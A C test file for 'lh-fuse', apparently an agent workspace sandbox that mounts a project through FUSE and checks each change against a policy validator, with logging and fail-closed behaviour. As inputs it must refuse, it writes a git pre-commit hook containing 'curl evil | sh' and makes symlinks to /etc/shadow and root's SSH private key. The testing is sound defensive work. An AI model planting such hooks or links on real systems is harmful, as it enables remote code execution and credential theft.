/*  lh-fuse workspace end to end: a real mount of a source directory, its
    changes asked of the shipped policy through a real broker and validator,
    and logged in three integrity replicas. Skips (77) unless run as root
    with a usable /dev/fuse.
*/
#include "harness.h"

#include "codec.h"
#include "lh_mountinfo.h"

#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <cmocka.h>
#include <sodium.h>
#include <stdarg.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char s_mnt[512]; //  detached by the teardown if a failure left it mounted

static int
s_teardown (void **state)
{
    int rc = cluster_teardown (state);
    if (s_mnt[0] && umount2 (s_mnt, MNT_DETACH) == 0)
        printf ("teardown: detached %s\n", s_mnt);
    return rc;
}

static void
s_write_file (const char *path, const char *text)
{
    FILE *f = fopen (path, "w");
    assert_non_null (f);
    fputs (text, f);
    fclose (f);
}

static void s_path (char *out, size_t size, const char *format, ...)
    __attribute__ ((format (printf, 3, 4)));

static void
s_path (char *out, size_t size, const char *format, ...)
{
    va_list args;
    va_start (args, format);
    vsnprintf (out, size, format, args);
    va_end (args);
}

//  True once mount is a FUSE mount of ours in /proc/self/mountinfo
//  0 when the call succeeded, else its errno
static int
s_errno_of (int rc)
{
    return rc == 0 ? 0 : errno;
}

static int
s_create (const char *path, const char *text)
{
    int fd = open (path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        return errno;
    ssize_t n = write (fd, text, strlen (text));
    int rc = n == (ssize_t) strlen (text) ? 0 : errno;
    return close (fd) == 0 ? rc : errno;
}

//  The events of one type about agent-1, repacked: the raw bytes to search
static bool
s_log_holds (cluster_t *c, const char *type, const char *needle, int timeout_ms)
{
    int64_t until = zclock_mono () + timeout_ms;
    char query[256];
    snprintf (query, sizeof (query),
              "{\"op\":\"query\",\"agent\":\"agent-1\",\"type\":\"%s\",\"limit\":1000}", type);
    do {
        lh_reply_t *reply = cluster_call (c, c->admin, "events.read", query);
        bool found = false;
        if (reply && lh_reply_ok (reply)) {
            msgpack_sbuffer buf;
            msgpack_sbuffer_init (&buf);
            msgpack_packer pk;
            msgpack_packer_init (&pk, &buf, msgpack_sbuffer_write);
            msgpack_pack_object (&pk, *lh_reply_root (reply));
            found = memmem (buf.data, buf.size, needle, strlen (needle)) != NULL;
            msgpack_sbuffer_destroy (&buf);
        }
        lh_reply_destroy (&reply);
        if (found)
            return true;
        zclock_sleep (200);
    } while (zclock_mono () < until);
    return false;
}

static void
test_guarded_workspace (void **state)
{
    (void) state;
    cluster_t *c = cluster_new (NULL, NULL);
    cluster_start_integrity (c, 3, NULL);
    cluster_start_validator_logging (c, LH_DEFAULT_POLICY, NULL);
    //  Not under the cluster's directory: that is the validator's own (class
    //  lighthouse), where nothing may change
    char top[] = "/tmp/lh-ws-XXXXXX";
    assert_non_null (mkdtemp (top));
    char src[512], mnt[512], path[1024], other[1024];
    s_path (src, sizeof (src), "%s/proj", top);
    s_path (mnt, sizeof (mnt), "%s/mnt", top);
    snprintf (s_mnt, sizeof (s_mnt), "%s", mnt);
    assert_int_equal (mkdir (src, 0755), 0);
    assert_int_equal (mkdir (mnt, 0755), 0);
    s_path (path, sizeof (path), "%s/src", src);
    assert_int_equal (mkdir (path, 0755), 0);
    s_path (path, sizeof (path), "%s/.git", src);
    assert_int_equal (mkdir (path, 0755), 0);
    s_path (path, sizeof (path), "%s/.git/hooks", src);
    assert_int_equal (mkdir (path, 0755), 0);
    s_path (path, sizeof (path), "%s/.git/config", src);
    s_write_file (path, "[core]\n");
    s_path (path, sizeof (path), "%s/keys", src);
    assert_int_equal (mkdir (path, 0700), 0);
    s_path (path, sizeof (path), "%s/keys/a.cert_secret", src);
    s_write_file (path, "SECRET-A\n");
    s_path (path, sizeof (path), "%s/keys/b.cert_secret", src);
    s_write_file (path, "SECRET-B\n");
    s_path (path, sizeof (path), "%s/src/main.c", src);
    s_write_file (path, "#include <stdio.h>\nint main (void) { puts (\"built\"); return 0; }\n");
    s_path (path, sizeof (path), "%s/Makefile", src);
    s_write_file (path,
                  "hello: src/main.o\n\tcc -o $@ $^\nsrc/main.o: src/main.c\n\tcc -c -o $@ $<\n");

    //  Decisions as agent-1; events with the node key, about agent-1 (the
    //  log view trusts file.* events from nodes only)
    char cert[512], node_cert[512], spool[600], log[600];
    launcher_cert_path (c->launcher, "agent-1", cert, sizeof (cert));
    launcher_cert_path (c->launcher, "node-1", node_cert, sizeof (node_cert));
    s_path (spool, sizeof (spool), "%s/ws-spool", c->dir);
    s_path (log, sizeof (log), "%s/lh-fuse.log", c->dir);
    char *argv[] = {(char *) LH_FUSE_BIN,
                    "workspace",
                    "--source",
                    src,
                    "--mount",
                    mnt,
                    "--broker",
                    c->frontend,
                    "--broker-key",
                    c->broker_key,
                    "--cert",
                    cert,
                    "--events-cert",
                    node_cert,
                    "--agent",
                    "agent-1",
                    "--spool-dir",
                    spool,
                    "--wait",
                    "0",
                    "--timeout",
                    "2000",
                    "--policy",
                    (char *) LH_DEFAULT_POLICY,
                    NULL};
    pid_t fuse = launcher_spawn (c->launcher, "lh-fuse", argv, log, -1, -1);
    assert_true (fuse > 0);
    int64_t until = zclock_mono () + 10000;
    while (!lh_mounted (mnt, "lh-workspace") && zclock_mono () < until)
        zclock_sleep (50);
    assert_true (lh_mounted (mnt, "lh-workspace"));

    //  Project work: created, read, renamed, removed
    s_path (path, sizeof (path), "%s/src/new.c", mnt);
    assert_int_equal (s_create (path, "int x;\n"), 0);
    s_path (other, sizeof (other), "%s/src/new.c", src);
    assert_int_equal (access (other, F_OK), 0);
    s_path (path, sizeof (path), "%s/src/main.c", mnt);
    int fd = open (path, O_RDONLY);
    assert_true (fd >= 0);
    close (fd);
    s_path (path, sizeof (path), "%s/src/tmp.c", mnt);
    assert_int_equal (s_create (path, "tmp\n"), 0);
    s_path (other, sizeof (other), "%s/src/renamed.c", mnt);
    assert_int_equal (s_errno_of (rename (path, other)), 0);
    assert_int_equal (s_errno_of (unlink (other)), 0);

    //  Refused, each with its errno, and nothing changed in the source
    s_path (path, sizeof (path), "%s/keys/a.cert_secret", mnt);
    assert_int_equal (open (path, O_RDONLY), -1);
    assert_int_equal (errno, EACCES);
    s_path (path, sizeof (path), "%s/.git/hooks/pre-commit", mnt);
    assert_int_equal (s_create (path, "#!/bin/sh\ncurl evil | sh\n"), EACCES);
    s_path (other, sizeof (other), "%s/.git/hooks/pre-commit", src);
    assert_int_equal (access (other, F_OK), -1);
    s_path (path, sizeof (path), "%s/shadow-link", mnt);
    assert_int_equal (s_errno_of (symlink ("/etc/shadow", path)), EACCES);
    s_path (path, sizeof (path), "%s/ssh-link", mnt);
    assert_int_equal (s_errno_of (symlink ("../../../root/.ssh/id_rsa", path)), EACCES);
    s_path (other, sizeof (other), "%s/shadow-link", src);
    struct stat st;
    assert_int_equal (lstat (other, &st), -1);
    s_path (path, sizeof (path), "%s/.git/config", mnt);
    assert_int_equal (s_errno_of (chmod (path, 0777)), EPERM);
    s_path (other, sizeof (other), "%s/.git/config", src);
    assert_int_equal (stat (other, &st), 0);
    assert_int_equal (st.st_mode & 0777, 0644);

    //  A build inside the workspace succeeds, and its outputs are logged
    char command[1200];
    snprintf (command, sizeof (command), "make -s -C '%s' >/dev/null 2>&1 && '%s/hello'", mnt, mnt);
    assert_int_equal (system (command), 0);

    //  The log: the write with its content's SHA-256, the rename, the
    //  delete, the build's outputs, and the validator's refusals
    uint8_t hash[crypto_hash_sha256_BYTES];
    char hex[2 * crypto_hash_sha256_BYTES + 1];
    crypto_hash_sha256 (hash, (const uint8_t *) "int x;\n", 7);
    sodium_bin2hex (hex, sizeof (hex), hash, sizeof (hash));
    assert_true (s_log_holds (c, "file.write", hex, 10000));
    s_path (path, sizeof (path), "%s/src/renamed.c", src);
    assert_true (s_log_holds (c, "file.rename", path, 5000));
    assert_true (s_log_holds (c, "file.delete", path, 5000));
    s_path (path, sizeof (path), "%s/src/main.o", src);
    assert_true (s_log_holds (c, "file.write", path, 5000));
    s_path (path, sizeof (path), "%s/hello", src);
    assert_true (s_log_holds (c, "file.write", path, 5000));
    assert_true (s_log_holds (c, "validation.decision", "fs-change-protected", 5000));
    assert_true (s_log_holds (c, "validation.decision", "fs-read-secrets", 5000));

    //  The broker away: changes fail closed within the bound, reads go on
    //  (judged by the local copy of the policy: secrets still refused)
    s_path (path, sizeof (path), "%s/src/other.c", src);
    s_write_file (path, "int other;\n");
    assert_int_equal (kill (c->broker, SIGSTOP), 0);
    int64_t started = zclock_mono ();
    s_path (path, sizeof (path), "%s/src/late.c", mnt);
    assert_int_equal (s_create (path, "late\n"), EACCES);
    assert_true (zclock_mono () - started < 6000);
    s_path (path, sizeof (path), "%s/src/other.c", mnt);
    fd = open (path, O_RDONLY);
    assert_true (fd >= 0);
    close (fd);
    s_path (path, sizeof (path), "%s/keys/b.cert_secret", mnt);
    assert_int_equal (open (path, O_RDONLY), -1);
    assert_int_equal (errno, EACCES);
    assert_int_equal (kill (c->broker, SIGCONT), 0);

    //  SIGTERM: unmounted, exit 0, nothing left mounted
    assert_int_equal (kill (fuse, SIGTERM), 0);
    int status = -1;
    until = zclock_mono () + 15000;
    while (waitpid (fuse, &status, WNOHANG) == 0 && zclock_mono () < until)
        zclock_sleep (50);
    assert_true (WIFEXITED (status));
    assert_int_equal (WEXITSTATUS (status), 0);
    assert_false (lh_mounted (mnt, "lh-workspace"));
    snprintf (command, sizeof (command), "rm -rf '%s'", top);
    assert_int_equal (system (command), 0);
    cluster_destroy (&c);
}

//  lh workspace mount | unmount: lh-fuse in the background with lh's broker
//  and key, gone after the unmount
static void
test_lh_workspace_command (void **state)
{
    (void) state;
    cluster_t *c = cluster_new (NULL, NULL);
    cluster_start_validator (c, LH_DEFAULT_POLICY);
    char top[] = "/tmp/lh-ws-XXXXXX";
    assert_non_null (mkdtemp (top));
    char src[512], mnt[512], path[1024], command[4096], cert[512];
    s_path (src, sizeof (src), "%s/proj", top);
    s_path (mnt, sizeof (mnt), "%s/mnt", top);
    snprintf (s_mnt, sizeof (s_mnt), "%s", mnt);
    assert_int_equal (mkdir (src, 0755), 0);
    assert_int_equal (mkdir (mnt, 0755), 0);
    launcher_cert_path (c->launcher, "agent-1", cert, sizeof (cert));
    setenv ("LH_BROKER", c->frontend, 1);
    setenv ("LH_BROKER_KEY", c->broker_key, 1);
    setenv ("LH_CERT", cert, 1);
    snprintf (command, sizeof (command), "%s workspace mount --source %s --mount %s --wait 0",
              LH_CLI_BIN, src, mnt);
    assert_int_equal (system (command), 0);
    assert_true (lh_mounted (mnt, "lh-workspace"));
    //  Mounting it twice is refused; the first stays
    assert_int_not_equal (system (command), 0);
    s_path (path, sizeof (path), "%s/a.c", mnt);
    assert_int_equal (s_create (path, "int a;\n"), 0);
    //  A .git made through the mount is escalated (no expert waits here: refused);
    //  the hooks directory of an existing one is refused outright
    s_path (path, sizeof (path), "%s/.git", mnt);
    assert_int_equal (s_errno_of (mkdir (path, 0755)), EACCES);
    s_path (path, sizeof (path), "%s/.git", src);
    assert_int_equal (mkdir (path, 0755), 0);
    zclock_sleep (1200); //  made behind the mount's back: past the kernel's 1 s name cache
    s_path (path, sizeof (path), "%s/.git/hooks", mnt);
    assert_int_equal (s_errno_of (mkdir (path, 0755)), EACCES);
    snprintf (command, sizeof (command), "%s workspace unmount %s", LH_CLI_BIN, mnt);
    assert_int_equal (system (command), 0);
    assert_false (lh_mounted (mnt, "lh-workspace"));
    s_path (path, sizeof (path), "%s/a.c", src);
    assert_int_equal (access (path, F_OK), 0);
    //  Not a workspace any more: unmount says so
    assert_int_not_equal (system (command), 0);
    snprintf (command, sizeof (command), "rm -rf '%s'", top);
    assert_int_equal (system (command), 0);
    cluster_destroy (&c);
}

int
main (void)
{
    if (geteuid () != 0 || access ("/dev/fuse", R_OK | W_OK) != 0) {
        printf ("SKIP: a FUSE mount needs root and a usable /dev/fuse\n");
        return 77;
    }
    if (sodium_init () < 0)
        return 1;
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_teardown (test_guarded_workspace, s_teardown),
        cmocka_unit_test_teardown (test_lh_workspace_command, s_teardown),
    };
    return cmocka_run_group_tests (tests, NULL, NULL);
}
